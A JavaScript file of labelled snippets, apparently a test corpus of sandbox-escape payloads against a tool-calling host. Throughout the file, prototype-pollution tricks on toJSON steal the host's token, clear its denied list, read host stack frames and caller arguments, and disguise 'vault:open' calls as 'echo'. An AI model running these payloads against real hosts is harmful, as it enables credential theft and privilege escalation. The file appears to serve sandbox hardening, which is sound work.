// toJSON: the host writes its own records as JSON, and calls whatever toJSON is there.

// --- a toJSON that every object inherits
let taken = null;
Object.prototype.toJSON = function () {
  taken ??= this.token ?? null;
  return this;
};
await callTool("whoami", {}).catch(() => {});
delete Object.prototype.toJSON;
return taken;

// --- a toJSON that every object inherits, by a getter
let taken = null;
Object.defineProperty(Object.prototype, "toJSON", {
  configurable: true,
  get() {
    taken ??= this.token ?? null;
  },
});
await callTool("whoami", {}).catch(() => {});
delete Object.prototype.toJSON;
return taken;

// --- a toJSON that opens what the host denies
Object.prototype.toJSON = function () {
  if (this.denied) this.denied.length = 0;
  return this;
};
await callTool("whoami", {}).catch(() => {});
delete Object.prototype.toJSON;
return await callTool("vault:open", {});

// --- a toJSON that every function inherits
let taken = null;
Function.prototype.toJSON = function () {
  taken ??= this;
};
await callTool("function:get", {}).catch(() => {});
return taken ? `won: a handler of the host's: ${taken}` : null;

// --- a toJSON that every list inherits
let taken = null;
Array.prototype.toJSON = function () {
  taken ??= this;
  return [];
};
await callTool("whoami", {}).catch(() => {});
return taken ? `won: a list of the host's: ${taken}` : null;

// --- a toJSON of dates, which the host writes
let taken = null;
const Native = Date.prototype.toJSON;
Date.prototype.toJSON = function (key) {
  taken = `won: the host wrote ${key}`;
  return Native.call(this);
};
await callTool("whoami", {}).catch(() => {});
return taken;

// --- a toJSON that sees the host's frames
let seen = null;
await callTool("echo", { value: { toJSON: () => (seen = new Error("x").stack) } });
return seen;

// --- a toJSON of the result that sees the host's frames
return { toJSON: () => new Error("x").stack };

// --- arguments that show one thing and are another
await callTool("note:add", { owner: "root", toJSON: () => ({ owner: "guest" }) });

// --- a name that shows one thing and is another
return await callTool({ toJSON: () => "echo", toString: () => "vault:open" }, {});

// --- a text that shows one thing and is another
const name = new String("vault:open");
name.toJSON = () => "echo";
return await callTool(name, {});

// --- a toJSON that changes its neighbours
const args = { a: { toJSON: () => ((args.owner = "root"), 1) }, };
await callTool("note:add", args);

// --- a toJSON of the final value that calls after the end
return {
  toJSON() {
    Object.prototype.admin = true;
    callTool("vault:open", {});
    return "";
  },
};

// --- a toJSON that is called with the host's caller
let taken = null;
const toJSON = function () {
  taken ??= toJSON.caller?.arguments?.[0]?.token;
  return 1;
};
await callTool("echo", { value: { toJSON } });
return taken;

// --- a toJSON of an error that the host writes
let taken = null;
Error.prototype.toJSON = function () {
  return { stack: this.stack };
};
return await callTool("vault:open", {}).catch((error) => ({ error }));
